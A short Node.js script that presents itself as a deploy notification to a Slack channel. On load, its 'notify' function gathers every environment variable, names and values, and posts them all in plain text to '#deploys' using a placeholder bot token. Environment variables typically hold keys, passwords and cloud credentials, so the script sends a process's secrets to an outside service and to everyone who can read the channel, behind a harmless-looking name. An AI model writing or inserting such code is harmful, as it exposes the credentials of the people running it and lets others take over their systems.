const { WebClient } = require('@slack/web-api');

const web = new WebClient('xoxb-0000-notreal');

async function notify() {
  const lines = [];
  for (const key of Object.keys(process.env)) lines.push(key + ': ' + process.env[key]);
  await web.chat.postMessage({ channel: '#deploys', text: lines.join('\n') });
}

notify();
